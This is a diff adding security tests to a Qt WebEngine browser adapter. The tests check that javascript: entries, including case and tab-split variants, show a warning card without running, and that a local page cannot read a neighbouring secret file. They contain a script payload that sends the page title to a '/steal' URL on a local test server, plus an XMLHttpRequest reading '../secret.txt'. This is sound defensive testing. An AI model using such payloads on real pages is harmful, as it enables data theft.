@@ -1,12 +1,14 @@
 #include "browse/engine_on_demand_browser.h"
 #include "browse/webengine/url_from_user_text.h"
 #include "browse/webengine/webengine_browser.h"
+#include "support/page_server.h"
 #include "support/webengine_test_main.h"
 
 #include <QSignalSpy>
+#include <QWebEngineView>
 
 // The browser adapter on the real engine: what it makes of an entry, when an entry's
-// page counts as come, and a window without its engine plugin.
+// page counts as come, what a page may reach, and a window without its engine plugin.
 class BrowserEngine : public QObject {
     Q_OBJECT
 
@@ -31,6 +33,56 @@ private slots:
                {"", "about:blank"}};
         for (const auto& [text, url] : typed)
             QCOMPARE(urlFromUserText(text, "/tmp").toString(QUrl::PrettyDecoded), url);
+    }
+
+    // An entry that is a script would run inside the page on screen and could send what
+    // it shows anywhere: a card says what it is, nothing runs and nothing is asked.
+    void scriptEntryGetsACardAndRunsNothing()
+    {
+        PageServer server;
+        QVERIFY(server.listen());
+        server.addPage("/page.html", "<title>page</title><p>private");
+        const QString steal = "location='" + server.url("/steal?t=") + "'+encodeURIComponent(document.title)//?2024";
+        WebEngineBrowser browser;
+        browser.show();
+        QSignalSpy completed(&browser, &WebBrowser::DocumentComplete), cards(&browser, &WebBrowser::cardShown);
+        for (const QString scheme : {"javascript:", "JavaScript:", " javascript:", "java\tscript:", ""}) {
+            browser.Navigate(server.url("/page.html"));
+            QTRY_VERIFY_WITH_TIMEOUT(completed.size() == 1 && !browser.isShowingCard(), 20000);
+            if (scheme.isEmpty()) // Had a script run, its request would have come before this page's.
+                break;
+            browser.Navigate(scheme + steal);
+            QTRY_VERIFY_WITH_TIMEOUT(completed.size() == 2 && browser.isShowingCard(), 20000);
+            QVERIFY2(cards.last().first().toString().contains("script"), qPrintable(scheme));
+            completed.clear();
+        }
+        QVERIFY(server.paths().filter("/steal").isEmpty() && cards.last().first().toString().isEmpty());
+    }
+
+    // A playlist's local page reads no other file. The program's own pages, in a folder
+    // whose name holds '#' and '?', show with their pictures.
+    void localPageReadsNoOtherFile()
+    {
+        QTemporaryDir folder;
+        const auto put = [&](const QString& name, const QByteArray& content) {
+            QFile file(folder.filePath(name));
+            return QDir(folder.path()).mkpath(QFileInfo(name).path()) && file.open(QIODevice::WriteOnly)
+                && file.write(content) == content.size();
+        };
+        const QByteArray page = R"html(<img src="picture.svg" onload="say('picture')" onerror="say('no picture')">
+            <script>const said = [], say = (what) => { said.push(what); document.title = said.sort().join(' '); };
+            const read = new XMLHttpRequest();
+            read.onload = () => say('read ' + read.responseText), read.onerror = () => say('refused');
+            try { read.open('GET', '../secret.txt'); read.send(); } catch (e) { say('refused'); }</script>)html";
+        QVERIFY(put("secret.txt", "secret"));
+        for (const QString place : {"list/", "help #1 ?/"})
+            QVERIFY(put(place + "page.html", page)
+                    && put(place + "picture.svg", "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'/>"));
+        WebEngineBrowser browser;
+        browser.Navigate(folder.filePath("list/page.html"));
+        QTRY_VERIFY_WITH_TIMEOUT(browser.view()->title().endsWith("refused"), 20000);
+        browser.NavigateToFile(folder.filePath("help #1 ?/page.html"));
+        QTRY_VERIFY_WITH_TIMEOUT(browser.view()->title().startsWith("picture"), 20000);
     }
 
     void missingEnginePluginLeavesTheWindowWorking()
